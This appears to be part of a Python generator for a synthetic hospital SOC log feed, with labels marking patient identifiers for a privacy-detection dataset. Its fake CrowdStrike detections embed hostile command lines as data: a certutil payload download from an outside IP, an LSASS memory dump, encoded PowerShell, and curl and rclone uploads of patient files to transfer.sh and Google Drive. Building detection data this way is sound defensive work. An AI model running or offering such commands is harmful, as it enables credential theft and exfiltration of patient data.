#!/usr/bin/env python3
"""Generate ka.log / ka.labels.jsonl: a synthetic hospital SOC endpoint & data-protection feed.

Theme: security operations center of a (fictitious) regional hospital, "St. Brendan Regional
Medical Center" (sbrmc.org).  Lines mimic: Microsoft 365 Defender alert JSON, MDE advanced
hunting CSV exports, CrowdStrike Falcon DetectionSummaryEvent JSON, Windows Security 4663
key=value (Splunk rendering), Purview Endpoint DLP audit JSON, Forcepoint DLP CEF over RFC5424
syslog with matched-content snippets (incl. HL7 fragments), Zscaler NSS LEEF web logs, Netskope
CASB JSON, SharePoint/OneDrive unified audit JSON, Exchange audit JSON (inbox rules, Send),
Get-MessageTrace CSV, escaped forwarded e-mails captured by a transport rule, Veeam
Svc.VeeamBackup.log, Commvault JobManager/ClRestore logs, Sysmon event XML, PowerShell 4104 via
rsyslog (#015#012 escapes), ServiceNow SecOps work notes, sensor/agent health syslog.

All people, numbers and addresses are synthetic.  Standard library only, fixed seed.

Labeling decisions:
- Label identifiers of patients and of other people whose health information the line is
  about (relatives, guarantors, subscribers, callers asking about a patient).
- Staff are never labeled: UPNs, sAMAccountNames, display names, analyst names, clinicians
  (referring doctors etc.), staff phone extensions, staff OneDrive URLs, and staff personal
  webmail addresses used in forwarding rules / CASB instance IDs (the line holds no health
  information about the staff member, even in insider-risk incidents).
- Facility/vendor assets are not labeled: hostnames, MDE/Falcon device IDs, USB stick serials
  of staff media, printers, internal IPs, staff client IPs, attacker/C2 IPs and domains.
- Patient names inside file names or paths are labeled as name (only the name part; a joined
  "Last_First" or "LAST^FIRST^M" run is one span; "Last, First" is one span incl. the comma).
  A patient name URL-encoded in a search query ("harold+begay") is labeled name.
- Dates tied to a patient (DOB, service/scan/discharge/appointment dates, device interrogation
  dates) are labeled date in any written form, including inside file names.  Log timestamps,
  screenshot-tool timestamps ("Screenshot 2024-06-03 142207.png"), job dates and report/export
  run dates not tied to a person are not labeled.
- Ages are labeled only when over 89; younger ages are left unlabeled.
- Address: street line and city are separate address spans; state is not labeled; ZIP / ZIP+4
  is zip.
- MRNs (8-digit and E-prefixed enterprise IDs) -> mrn; hospital account (HAR) numbers and
  payment card numbers of patients/guarantors -> account; Medicare MBI / commercial member IDs /
  Medicaid IDs -> health_plan; encounter CSNs, ROI request numbers, MyChart usernames ->
  other_id.  Only the value is labeled, never the key/prefix ("MRN", "CSN").
- A patient's personal URL (fundraiser page, social profile) is labeled url; a patient's public
  IP seen on the portal is ip; an implanted-device serial / phone IMEI of a patient is device;
  palm-vein template blobs are biometric; base64 face photos are photo.
- Masked values (***-**-6789, XXXX1234), public test values (078-05-1120, 4111111111111111,
  ZZTEST patients) and security incident / ticket numbers are not labeled.
"""
import datetime as dt
import hashlib
import json
import os
import random
import unicodedata
from xml.sax.saxutils import escape as _xesc

SEED = 2117
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))
ID = "ka"
N_LINES = 500
N_PHI = 225


# ----------------------------------------------------------------------------- line builder
class Line:
    def __init__(self, family):
        self.family = family
        self.buf = []
        self.n = 0
        self.spans = []
        self.vals = []

    def t(self, s):
        s = str(s)
        self.buf.append(s)
        self.n += len(s.encode("utf-8"))
        return self

    def p(self, s, cat):
        s = str(s)
        b = self.n
        self.t(s)
        self.spans.append({"s": b, "e": self.n, "cat": cat})
        self.vals.append(s)
        return self

    def put(self, pieces, esc=None):
        for pc in pieces:
            if isinstance(pc, tuple):
                self.p(esc(pc[0]) if esc else pc[0], pc[1])
            else:
                self.t(esc(pc) if esc else pc)
        return self

    def text(self):
        return "".join(self.buf)


class S:
    """A string value made of pieces: plain str or (value, category)."""

    def __init__(self, *pieces):
        self.pieces = [x for x in pieces if x != ""]


def jesc(s):
    return json.dumps(s, ensure_ascii=False)[1:-1]


def jemit(L, obj, sp=False):
    if isinstance(obj, dict):
        L.t("{")
        for i, (k, v) in enumerate(obj.items()):
            if i:
                L.t(", " if sp else ",")
            L.t(json.dumps(k))
            L.t(": " if sp else ":")
            jemit(L, v, sp)
        L.t("}")
    elif isinstance(obj, list):
        L.t("[")
        for i, v in enumerate(obj):
            if i:
                L.t(", " if sp else ",")
            jemit(L, v, sp)
        L.t("]")
    elif isinstance(obj, S):
        L.t('"')
        L.put(obj.pieces, jesc)
        L.t('"')
    elif isinstance(obj, str):
        L.t(json.dumps(obj, ensure_ascii=False))
    else:
        L.t(json.dumps(obj))


def xesc(s):
    return _xesc(s, {"'": "&apos;", '"': "&quot;"})


def cesc(s):  # CEF extension value escaping
    return s.replace("\\", "\\\\").replace("=", "\\=")


def ptext(pieces):
    return "".join(pc[0] if isinstance(pc, tuple) else pc for pc in pieces)


def has_span(pieces):
    return any(isinstance(pc, tuple) for pc in pieces)


# ----------------------------------------------------------------------------- clocks & ids
T0 = dt.datetime(2024, 6, 3, 0, 2, 11)
_clock = [T0]


def tick():
    _clock[0] += dt.timedelta(seconds=R.randint(3, 150), microseconds=R.randint(0, 999999))
    return _clock[0]


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def guid():
    return "%s-%s-4%s-%s%s-%s" % (hexs(8), hexs(4), hexs(3), R.choice("89ab"), hexs(3), hexs(12))


def sha256():
    return hexs(64)


def digits(n):
    return "".join(R.choice("0123456789") for _ in range(n))


def iso(t, frac=3, z=True):
    s = t.strftime("%Y-%m-%dT%H:%M:%S")
    if frac:
        s += "." + ("%06d" % t.microsecond)[:frac] if frac <= 6 else "." + ("%06d" % t.microsecond) + "0"
    return s + ("Z" if z else "")


def epoch(t):
    return int((t - dt.datetime(1970, 1, 1)).total_seconds())


def syslog_ts(t):
    return t.strftime("%b ") + ("%2d" % t.day) + t.strftime(" %H:%M:%S")


# ----------------------------------------------------------------------------- people
ORIGINS = [
    (["Chinedu", "Ngozi", "Oluwaseun", "Adaeze", "Emeka", "Folasade"],
     ["Okafor", "Adeyemi", "Oyelaran", "Nwosu", "Okonkwo-Bello", "Eze"]),
    (["María José", "Esperanza", "Rafael", "Xiomara", "Joaquín", "Guadalupe"],
     ["García-López", "Ramírez", "de la Cruz", "Villanueva", "Ochoa", "Santos Peña"]),
    (["Thanh", "Minh", "Lan", "Quang"], ["Nguyễn", "Trần", "Phạm", "Lê"]),
    (["Mei-Ling", "Wei", "Haruto", "Yuki", "Ji-woo"], ["Chen", "Takahashi", "Park", "Watanabe", "Liu"]),
    (["Priya", "Rohan", "Lakshmi", "Anil"], ["Chowdhury", "Venkataraman", "Iyer", "Patel"]),
    (["Siobhán", "Declan", "Ciarán", "Maeve"], ["O'Sullivan", "MacLeod", "Fitzgerald", "Ní Bhriain"]),
    (["Tomasz", "Agnieszka", "Dmitri", "Svetlana", "Zoltán"],
     ["Kowalczyk", "Wiśniewska", "Ivanova", "Szabó", "Petrov"]),
    (["Fatima", "Hamid", "Samir", "Leila", "Yousef"], ["Al-Hashimi", "Haddad", "bin Rashid", "Mansour", "El-Amin"]),
    (["Harold", "Loretta", "Aiyana", "Wilbur"], ["Begay", "Yazzie", "Tsosie", "Whitehorse"]),
    (["Leilani", "Kawika", "Malia"], ["Kealoha", "Kahananui", "Akana"]),
    (["Ingrid", "Björn", "Søren", "Astrid"], ["Lindqvist", "Johansson", "Sørensen", "Achterberg"]),
    (["Giovanni", "Rosalind", "Anaïs", "Bartholomew", "Eleni"],
     ["DiMarco", "Van Buren", "Delacroix", "Abernathy-Cole", "Papadopoulos", "St. John"]),
    (["Kwame", "Amara", "Thandiwe"], ["Mensah", "Mbeki", "Boateng"]),
    (["Dorothy", "Earl", "Mildred", "Clarence", "Beverly", "Gus"],
     ["Hendricks", "Schultz", "Kowalski", "Olson", "Brandvold", "Zimmerman"]),
    (["Pa Nhia", "Tou", "Mai", "Kou"], ["Vang", "Xiong", "Thao", "Yang"]),
]
STREETS = ["Raymond Rd", "Old Sauk Rd", "E Washington Ave", "Monona Dr", "N Sherman Ave", "Lake Kegonsa Rd",
           "Hwy PD", "County Rd MM", "Vilas Ave", "Cottage Grove Rd", "S Park St", "Nakoosa Trl",
           "W Verona Ave", "Elmside Blvd", "Buckeye Rd", "Tree Ln Apt 4B", "Jenifer St", "Mineral Point Rd #210"]
CITIES = [("Madison", "537"), ("Verona", "53593"), ("Sun Prairie", "53590"), ("Fitchburg", "53711"),
          ("Middleton", "53562"), ("Stoughton", "53589"), ("Waunakee", "53597"), ("Baraboo", "53913"),
          ("Janesville", "53545"), ("Mount Horeb", "53572"), ("DeForest", "53532"), ("Oregon", "53575")]
MBI_L = "ACDEFGHJKMNPQRTUVWXY"


def ascii_fold(s):
    return unicodedata.normalize("NFKD", s).encode("ascii", "ignore").decode()


def mk_ssn():
    while True:
        a = R.randint(1, 899)
        if a != 666:
            break
    return "%03d-%02d-%04d" % (a, R.randint(1, 99), R.randint(1, 9999))


def mk_phone():
    area = R.choice(["608", "608", "920", "414", "262", "715", "815"])
    ex = str(R.randint(201, 989))
    ln = digits(4)
    f = R.randint(0, 5)
    return [f"({area}) {ex}-{ln}", f"{area}-{ex}-{ln}", f"{area}{ex}{ln}", f"+1 {area} {ex} {ln}",
            f"{area}.{ex}.{ln}", f"1-{area}-{ex}-{ln}"][f]


def mk_mbi():
    c = lambda: R.choice(MBI_L)
    n = lambda: str(R.randint(0, 9))
    an = lambda: R.choice(MBI_L + "0123456789")
    return str(R.randint(1, 9)) + c() + an() + n() + c() + an() + n() + c() + c() + n() + n()


def luhn_complete(prefix, length):
    body = prefix + digits(length - len(prefix) - 1)
    tot = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        tot += d
    return body + str((10 - tot % 10) % 10)


def card():
    pre = R.choice(["4", "51", "55", "6011", "37"])
    return luhn_complete(pre, 15 if pre == "37" else 16)


def mk_vin():
    al = "ABCDEFGHJKLMNPRSTUVWXYZ0123456789"
    return R.choice(["1G1", "2HG", "3FA", "5YJ", "JTD", "1FT", "WBA"]) + "".join(R.choice(al) for _ in range(14))


class Patient:
    def __init__(self):
        firsts, lasts = R.choice(ORIGINS)
        self.first = R.choice(firsts)
        self.last = R.choice(lasts)
        self.mi = R.choice("ABCDEFGHJKLMNPRSTW")
        y = R.choice([R.randint(1926, 1934), R.randint(1935, 2006), R.randint(1940, 1990), R.randint(2008, 2021)])
        self.dob = dt.date(y, R.randint(1, 12), R.randint(1, 28))
        self.age = 2024 - y - (1 if (self.dob.month, self.dob.day) > (6, 3) else 0)
        self.mrn = R.choice(["%08d" % R.randint(100000, 9999999), "E%07d" % R.randint(1000000, 9999999)])
        self.ssn = mk_ssn()
        self.phone = mk_phone()
        fa, la = ascii_fold(self.first).lower().replace(" ", ""), ascii_fold(self.last).lower().replace(" ", "").replace("'", "")
        self.email = R.choice([f"{fa}.{la}{R.randint(1, 99)}@gmail.com", f"{fa[0]}{la}@yahoo.com",
                               f"{la}.{fa}@outlook.com", f"{fa}{self.dob.year % 100:02d}@hotmail.com",
                               f"{fa}_{la}@icloud.com", f"{la}{fa[0]}{R.randint(1, 9)}@charter.net"])
        self.street = "%d %s" % (R.randint(12, 9899), R.choice(STREETS))
        self.city, z = R.choice(CITIES)
        self.zip = z + ("%02d" % R.choice([3, 4, 5, 11, 13, 14, 15, 16, 17, 18, 19]) if len(z) == 3 else "")
        if R.random() < 0.2:
            self.zip += "-" + digits(4)
        self.plan = R.choice([mk_mbi(), R.choice(["XEH", "QMB", "WIB", "UHC"]) + digits(9),
                              digits(10), "MA" + digits(8)])
        self.har = digits(R.choice([9, 10]))
        self.csn = "1" + digits(9)
        self.username = R.choice([fa + la[:4] + str(R.randint(1, 99)), la + fa[0], fa[0] + la + str(self.dob.year)])
        self.dl = R.choice([R.choice("ABDGKMST") + digits(3) + "-" + digits(4) + "-" + digits(4) + "-" + digits(2),
                            R.choice("ABDGKMST") + digits(13), digits(9)])


PATIENTS = [Patient() for _ in range(90)]


def pat():
    # a few patients recur (same incident spans several sources)
    if R.random() < 0.35:
        return R.choice(PATIENTS[:12])
    return R.choice(PATIENTS)


def fname(p, style=None):
    st = style or R.choice(["fl", "lf", "LF", "LFM", "il", "lower", "flm", "lf"])
    return {
        "fl": f"{p.first} {p.last}",
        "lf": f"{p.last}, {p.first}",
        "LF": f"{p.last.upper()}, {p.first.upper()}",
        "LFM": f"{p.last.upper()}, {p.first.upper()} {p.mi}",
        "il": f"{p.first[0]}. {p.last}",
        "lower": f"{p.first} {p.last}".lower(),
        "flm": f"{p.first} {p.mi}. {p.last}",
        "us": f"{p.last}_{p.first}".replace(" ", "_"),
        "hl7": f"{p.last.upper()}^{p.first.upper()}^{p.mi}",
        "ascii_us": ascii_fold(f"{p.last}_{p.first}").replace(" ", "_").replace("'", ""),
    }[st]


def fdate(d, style=None):
    st = style if style is not None else R.randint(0, 10)
    mon = d.strftime("%b")
    return [f"{d.month:02d}/{d.day:02d}/{d.year}", f"{d.month}/{d.day}/{d.year}", d.isoformat(),
            d.strftime("%Y%m%d"), f"{d.month:02d}-{d.day:02d}-{d.year}", d.strftime("%d.%m.%Y"),
            f"{mon} {d.day}, {d.year}", d.strftime("%d-%b-%Y").upper(), f"{d.month}/{d.day}/{d.year % 100:02d}",
            f"{d.day} {d.strftime('%B')} {d.year}", f"{d.month}-{d.day}-{d.year % 100:02d}"][st]


def svc_date():
    return dt.date(2024, R.choice([3, 4, 5, 5, 6]), R.randint(1, 28)) if R.random() < 0.8 else \
        dt.date(R.randint(2016, 2023), R.randint(1, 12), R.randint(1, 28))


# ----------------------------------------------------------------------------- staff & infra
STAFF = [
    ("jmarsh", "Jordan Marsh", "SBR-WS-ED0142"), ("adelgado", "Ana Delgado", "SBR-LT-SOC-004"),
    ("rkhatri", "Ravi Khatri", "SBR-LT-ONC-017"), ("kbrandt", "Kelsey Brandt", "SBR-WS-HIM-031"),
    ("tibarra", "Tomás Ibarra", "SBR-WS-REG-009"), ("goduya", "Grace Oduya", "SBR-WS-RAD-022"),
    ("lfischer", "Lena Fischer", "SBR-LT-CARD-006"), ("mwebb", "Marcus Webb", "SBR-WS-BILL-114"),
    ("hlee2", "Hannah Lee", "SBR-WS-PHARM-003"), ("dmalhotra", "Dev Malhotra", "SBR-LT-IT-051"),
    ("sokonjo", "Samuel Okonjo", "SBR-WS-ED0117"), ("cvandyke", "Carly Van Dyke", "SBR-WS-NICU-008"),
    ("pthorsen", "Per Thorsen", "SBR-WS-HIM-027"), ("nrahman", "Nadia Rahman", "SBR-LT-CM-012"),
]
DOM = "sbrmc.org"
ANALYSTS = ["Ana Delgado", "Dev Malhotra", "Brianna Koch", "Luis Ferreira", "Wen Zhou"]


def rs():
    return R.choice(STAFF)


def upn(s):
    first, last = s[1].split(" ", 1)
    return ascii_fold(f"{first}.{last}").lower().replace(" ", "") + "@" + DOM


def int_ip():
    return "10.%d.%d.%d" % (R.choice([20, 40, 41, 60, 88]), R.randint(0, 254), R.randint(2, 254))


def pub_ip():
    return "%d.%d.%d.%d" % (R.choice([73, 76, 98, 24, 67, 174, 107, 99]), R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))


def personal_mail(s):
    first, last = ascii_fold(s[1]).lower().split(" ", 1)
    return R.choice([f"{first}{last[0]}{R.randint(70, 99)}@gmail.com", f"{first}.{last.replace(' ', '')}@icloud.com",
                     f"{last.replace(' ', '')}{first[0]}@yahoo.com"])


def user_folder(s):
    u = s[0]
    return R.choice([f"C:\\Users\\{u}\\Documents\\", f"C:\\Users\\{u}\\Downloads\\", f"C:\\Users\\{u}\\Desktop\\",
                     f"C:\\Users\\{u}\\OneDrive - St Brendan Regional\\Desktop\\",
                     f"C:\\Users\\{u}\\Pictures\\Screenshots\\", f"C:\\Users\\{u}\\Documents\\Scans\\"])


SHARE_FOLDERS = ["\\\\sbr-fs01\\HIM\\ROI\\2024\\", "\\\\sbr-fs01\\HIM\\Scans\\Incoming\\", "D:\\Shares\\Cardiology\\DeviceClinic\\",
                 "\\\\sbr-fs02\\Revenue\\Denials\\", "\\\\sbr-fs01\\Radiology\\OutsideCDs\\", "E:\\Exports\\Epic\\"]


def pfile(p):
    """Patient-identifying file name pieces (always >=1 span)."""
    k = R.randint(0, 15)
    sd = svc_date()
    if k == 0:
        return ["Referral_", (fname(p, "us"), "name"), "_", (fdate(p.dob, 3), "date"), ".pdf"]
    if k == 1:
        return ["Scan_", (p.mrn, "mrn"), "_", (fdate(sd, 2), "date"), ".pdf"]
    if k == 2:
        return [(fname(p, "lf"), "name"), " - Discharge Summary ", (fdate(sd, 4), "date"), ".docx"]
    if k == 3:
        return [(f"{p.first} {p.last}", "name"), " wound photo ", (fdate(sd, 10), "date"), ".jpg"]
    if k == 4:
        return ["ROI_", ("R24-" + digits(5), "other_id"), "_", (ascii_fold(p.last).replace(" ", ""), "name"), ".pdf"]
    if k == 5:
        return [(fname(p, "us").upper(), "name"), "_CT_HEAD_", (fdate(sd, 3), "date"), ".dcm"]
    if k == 6:
        return ["Insurance card - ", (fname(p, R.choice(["fl", "flm"])), "name"), ".jpg"]
    if k == 7:
        return ["DL_", (p.dl, "license"), ".png"]
    if k == 8:
        return ["Medtronic_", (R.choice(["PJN", "RNB", "BLR"]) + digits(6) + R.choice("HGS"), "device"), "_",
                (fdate(sd, 2), "date"), ".pdf"]
    if k == 9:
        return ["facesheet_", (p.mrn, "mrn"), ".pdf"]
    if k == 10:
        return [(fname(p, "lower"), "name"), " denial appeal HAR ", (p.har, "account"), ".docx"]
    if k == 11:
        return ["ScannedReferral_", (fname(p, "ascii_us"), "name"), "_DOB", (fdate(p.dob, 4), "date"), ".tif"]
    if k == 12:
        return ["Epic_chart_", (fname(p, "us"), "name"), ".png"]
    if k == 13:
        return ["labs ", (p.first.lower(), "name"), " ", (fdate(sd, 1).replace("/", "-"), "date"), ".xlsx"]
    if k == 14:
        return ["CSN", (p.csn, "other_id"), "_AVS.pdf"]
    return [(fname(p, "us"), "name"), "_", (p.mrn, "mrn"), "_consent.pdf"]


SAFE_FILES = ["Q2_staffing_matrix.xlsx", "budget_FY25_draft_v3.xlsx", "invoice_88213.pdf", "AnyDesk.exe",
              "Screenshot 2024-06-03 101522.png", "HIPAA_training_2024.pptx", "OR_block_schedule_template.docx",
              "census_export_20240603.csv", "payroll_adj_0531.xlsx", "Zoom_cm_fo42mnkt.exe", "ChromeSetup.exe",
              "IMG_4471.JPG", "badge_photo_request_form.docx", "Hyperspace_Update_Nov23.msi", "vendor_W9_Cerner.pdf",
              "ED_throughput_dashboard.pbix", "sepsis_bundle_compliance_May.xlsx", "~$meeting_notes.docx",
              "CrowdStrike_WindowsSensor_7.11.18110.exe", "PO_4500218834.pdf", "rounding_list_template.xlsx",
              "Screenshot 2024-06-02 221104.png", "backup_report_0602.html", "nurse_schedule_June.xlsx"]


def safe_file():
    return R.choice(SAFE_FILES)


def safe_path(s):
    f = safe_file()
    u = s[0]
    if f.lower().endswith((".png", ".jpg")):
        d = R.choice(["C:\\Users\\%s\\Pictures\\Screenshots\\" % u, "C:\\Users\\%s\\Desktop\\" % u])
    elif f.lower().endswith((".exe", ".msi")):
        d = "C:\\Users\\%s\\Downloads\\" % u
    else:
        d = R.choice(["C:\\Users\\%s\\Documents\\" % u, "C:\\Users\\%s\\Desktop\\" % u,
                      "C:\\Users\\%s\\OneDrive - St Brendan Regional\\Documents\\" % u])
    return d, f


def hostn(s):
    return s[2]


def host_id(h, n, salt):
    return hashlib.sha1((salt + h).encode()).hexdigest()[:n]


FALCON_CID = "f7c1a2e94b0d4e3c9a5b6d20e18c4f37"


# ----------------------------------------------------------------------------- families
def g_m365d(phi):
    L = Line("m365d_alert_json")
    t = tick()
    s = rs()
    if phi:
        p = pat()
        fp = pfile(p)
        title = R.choice(["Sensitive file copied to removable storage", "Possible data exfiltration to personal cloud storage",
                          "DLP policy match: PHI printed to non-secure printer", "File with patient identifiers archived by unusual process"])
        cat, src, sev = "Exfiltration", R.choice(["microsoftDataLossPrevention", "microsoftDefenderForEndpoint"]), R.choice(["medium", "high"])
        fname_v = S(*fp)
        if R.random() < 0.3:
            folder = S("\\\\sbr-fs01\\Radiology\\OutsideCDs\\", (fname(p, "us"), "name"), "_", (fdate(p.dob, 3), "date"), "\\")
        else:
            folder = user_folder(s)
    else:
        title, cat = R.choice([("Suspicious PowerShell download cradle", "Execution"), ("'Mimikatz' credential theft tool", "CredentialAccess"),
                               ("Potentially unwanted application detected", "Malware"), ("Suspicious remote access software", "CommandAndControl"),
                               ("Possible Kerberoasting activity", "CredentialAccess"), ("Unusual volume of file deletion", "Impact")])
        src, sev = "microsoftDefenderForEndpoint", R.choice(["low", "medium", "high", "informational"])
        fname_v = {"Execution": "update.ps1", "CredentialAccess": R.choice(["mimikatz.exe", "Rubeus.exe"]), "Malware": "Zoom_cm_fo42mnkt.exe",
                   "CommandAndControl": "AnyDesk.exe", "Impact": "svch0st.exe"}[cat]
        folder = R.choice(["C:\\ProgramData\\", "C:\\Users\\Public\\", user_folder(s), "C:\\Windows\\Temp\\"])
    obj = {
        "id": "da%s_%s" % (digits(18), digits(10)),
        "providerAlertId": "da%s_%s" % (digits(18), digits(10)),
        "incidentId": str(R.randint(41000, 42999)),
        "status": R.choice(["new", "inProgress"]),
        "severity": sev,
        "classification": None,
        "determination": None,
        "serviceSource": "microsoftDefenderForEndpoint" if src != "microsoftDataLossPrevention" else "dataLossPrevention",
        "detectionSource": src,
        "title": title,
        "category": cat,
        "createdDateTime": iso(t, 7),
        "lastUpdateDateTime": iso(t + dt.timedelta(seconds=R.randint(5, 300)), 7),
        "evidence": [
            {"@odata.type": "#microsoft.graph.security.deviceEvidence", "verdict": "unknown",
             "deviceDnsName": hostn(s).lower() + ".sbrmc.local", "osPlatform": "Windows11", "osBuild": R.choice([22631, 22621, 19045]),
             "mdeDeviceId": host_id(hostn(s), 40, "mde"), "riskScore": R.choice(["low", "medium", "high"])},
            {"@odata.type": "#microsoft.graph.security.fileEvidence", "verdict": "unknown", "detectionStatus": "detected",
             "fileDetails": {"fileName": fname_v, "filePath": folder, "sha1": hexs(40), "sha256": sha256(),
                             "fileSize": R.randint(20000, 9000000), "fileOwner": "SBRMC\\" + s[0]}},
        ],
    }
    jemit(L, obj)
    return L


def csv_field(L, pieces, always=False):
    txt = ptext(pieces)
    if always or any(c in txt for c in ',"'):
        L.t('"')
        L.put(pieces, lambda x: x.replace('"', '""'))
        L.t('"')
    else:
        L.put(pieces)


def g_mde_csv(phi):
    L = Line("mde_hunting_csv")
    if not phi and R.random() < 0.12:
        L.t("Timestamp,DeviceName,ActionType,FileName,FolderPath,InitiatingProcessFileName,InitiatingProcessAccountName,SHA1,ReportId")
        return L
    t = tick()
    s = rs()
    act = R.choice(["FileCreated", "FileModified", "FileRenamed", "FileCreated"])
    if phi:
        p = pat()
        fp = pfile(p)
        folder = [user_folder(s)] if R.random() < 0.7 else [R.choice(SHARE_FOLDERS)]
        proc = R.choice(["AcroRd32.exe", "explorer.exe", "NAPS2.exe", "EXCEL.EXE", "WINWORD.EXE", "msedge.exe", "HPScan.exe"])
    else:
        d, f = safe_path(s)
        fp = [f]
        folder = [d]
        proc = R.choice(["explorer.exe", "OneDrive.exe", "msedge.exe", "SnippingTool.exe", "svchost.exe", "EXCEL.EXE"])
    L.t(t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06dZ" % t.microsecond + "," + hostn(s).lower() + ".sbrmc.local," + act + ",")
    csv_field(L, fp)
    L.t(",")
    csv_field(L, folder + fp)
    L.t("," + proc + "," + s[0] + "," + hexs(40) + "," + str(R.randint(10000, 999999)))
    return L


def g_falcon(phi):
    L = Line("falcon_detection_json")
    t = tick()
    s = rs()
    if phi:
        p = pat()
        k = R.randint(0, 3)
        if k == 0:
            cmd = S('"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -p C:\\Users\\%s\\AppData\\Local\\Temp\\~upl.zip "\\\\sbr-fs01\\HIM\\ROI\\2024\\' % s[0],
                    (fname(p, "us"), "name"), "_", (p.mrn, "mrn"), '\\"')
            fn, fpth = "7z.exe", "\\Device\\HarddiskVolume3\\Program Files\\7-Zip\\7z.exe"
            dn, tac, tech = "ArchiveCollectedData", "Collection", "Archive Collected Data"
        elif k == 1:
            cmd = S("rclone.exe copy \"D:\\Exports\\", (fname(p, "lf"), "name"), " DOB ", (fdate(p.dob, 4), "date"),
                    "\" gdrive:backup --transfers 8")
            fn, fpth = "rclone.exe", "\\Device\\HarddiskVolume3\\Users\\%s\\Downloads\\rclone.exe" % s[0]
            dn, tac, tech = "ExfilToCloudStorage", "Exfiltration", "Exfiltration to Cloud Storage"
        elif k == 2:
            cmd = S("powershell.exe -nop -c \"Compress-Archive -Path 'C:\\Users\\%s\\Desktop\\" % s[0], *pfile(p),
                    "' -DestinationPath $env:TEMP\\a.zip; curl.exe -T $env:TEMP\\a.zip https://transfer.sh/a.zip\"")
            fn, fpth = "powershell.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
            dn, tac, tech = "SuspiciousPowerShellTransfer", "Exfiltration", "Exfiltration Over Web Service"
        else:
            cmd = S("robocopy \"\\\\sbr-fs01\\Radiology\\OutsideCDs\\", (fname(p, "us"), "name"), "_", (fdate(p.dob, 3), "date"),
                    "\" E:\\ /E /R:0 /NP")
            fn, fpth = "Robocopy.exe", "\\Device\\HarddiskVolume3\\Windows\\System32\\Robocopy.exe"
            dn, tac, tech = "BulkCopyToRemovable", "Exfiltration", "Exfiltration over Physical Medium"
    else:
        cmd, fn, dn, tac, tech = R.choice([
            ("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
             "powershell.exe", "EncodedPowerShell", "Execution", "PowerShell"),
            ("certutil.exe -urlcache -split -f http://185.220.101.47/p.bin C:\\Users\\Public\\p.bin", "certutil.exe",
             "IngressToolTransfer", "Command and Control", "Ingress Tool Transfer"),
            ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\l.dmp full", "rundll32.exe",
             "CredentialDumpLsass", "Credential Access", "LSASS Memory"),
            ("\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --start-with-win --silent", "AnyDesk.exe", "RemoteAccessTool",
             "Command and Control", "Remote Access Software"),
            ("wmic.exe /node:sbr-sql02 process call create \"cmd /c whoami > \\\\sbr-fs01\\c$\\w.txt\"", "wmic.exe",
             "LateralMovementWMI", "Lateral Movement", "Windows Management Instrumentation"),
        ])
        fpth = "\\Device\\HarddiskVolume3\\Windows\\System32\\" + fn
    ev = {
        "metadata": {"customerIDString": FALCON_CID, "offset": R.randint(1000000, 9999999),
                     "eventType": "DetectionSummaryEvent", "eventCreationTime": epoch(t) * 1000 + R.randint(0, 999), "version": "1.0"},
        "event": {"ProcessStartTime": epoch(t) - R.randint(1, 60), "ProcessEndTime": 0, "ProcessId": R.randint(10**11, 10**12),
                  "ParentProcessId": R.randint(10**11, 10**12), "ComputerName": hostn(s), "UserName": s[0],
                  "DetectName": dn, "DetectDescription": "A process exhibited behavior consistent with " + tech.lower() + ".",
                  "Severity": R.randint(2, 5), "SeverityName": R.choice(["Medium", "High", "Critical"]),
                  "FileName": fn, "FilePath": fpth, "CommandLine": cmd, "SHA256String": sha256(), "MD5String": hexs(32),
                  "MachineDomain": "SBRMC", "SensorId": host_id(hostn(s), 32, "aid"), "Tactic": tac, "Technique": tech,
                  "Objective": "Falcon Detection Method", "PatternDispositionValue": R.choice([0, 16, 2048]),
                  "FalconHostLink": "https://falcon.us-2.crowdstrike.com/activity/detections/detail/%s/%d" % (hexs(32), R.randint(10**10, 10**11))},
    }
    jemit(L, ev)
    return L


def g_4663(phi):
    L = Line("win_security_4663_kv")
    t = tick()
    s = rs()
    L.t(t.strftime("%m/%d/%Y %I:%M:%S %p") + " LogName=Security EventCode=4663 EventType=0 ComputerName=SBR-FS01.sbrmc.local "
        "SourceName=Microsoft Windows security auditing. Type=Information RecordNumber=%d Keywords=Audit Success "
        "TaskCategory=File System OpCode=Info Message=An attempt was made to access an object. " % R.randint(10**8, 10**9))
    L.t("Security_ID=SBRMC\\%s Account_Name=%s Account_Domain=SBRMC Logon_ID=0x%X Object_Server=Security Object_Type=File Object_Name=" %
        (s[0], s[0], R.randint(0x100000, 0xFFFFFFF)))
    if phi:
        p = pat()
        if R.random() < 0.5:
            L.put(["D:\\Shares\\HIM\\ROI\\2024\\"] + pfile(p))
        else:
            L.put(["D:\\Shares\\Radiology\\OutsideCDs\\", (fname(p, "us"), "name"), "_", (fdate(p.dob, 3), "date"), "\\DICOMDIR"])
    else:
        L.t(R.choice(["D:\\Shares\\Finance\\", "D:\\Shares\\Nursing\\Education\\", "D:\\Shares\\IT\\Scripts\\"]) + safe_file())
    L.t(" Handle_ID=0x%x Resource_Attributes=S:AI Process_ID=0x%x Process_Name=C:\\Windows\\explorer.exe Accesses=%s Access_Mask=%s" %
        (R.randint(0x100, 0xfff), R.randint(0x400, 0x4000), *R.choice([("ReadData (or ListDirectory)", "0x1"), ("WriteData (or AddFile)", "0x2"), ("DELETE", "0x10000")])))
    return L


SIT = {"ssn": ("U.S. Social Security Number (SSN)", "a44669fe-0d48-453d-a9b1-2cc83f2cba77"),
       "mrn": ("SBRMC Medical Record Number", "5b1d6e0c-7f3a-4e1b-9c2d-" + "8f3e2a1b0c9d"),
       "name": ("All Full Names", "50b8b56b-4ef8-44c2-a924-03374f5831ce"),
       "date": ("Date of Birth (custom)", "0e2f8c54-7b5e-4a11-93f0-" + "d21c6b7e4a90"),
       "health_plan": ("U.S. Medicare Beneficiary Identifier", "8b2a0f31-22c4-4d9e-a1f7-" + "3c9e5d0b7a12"),
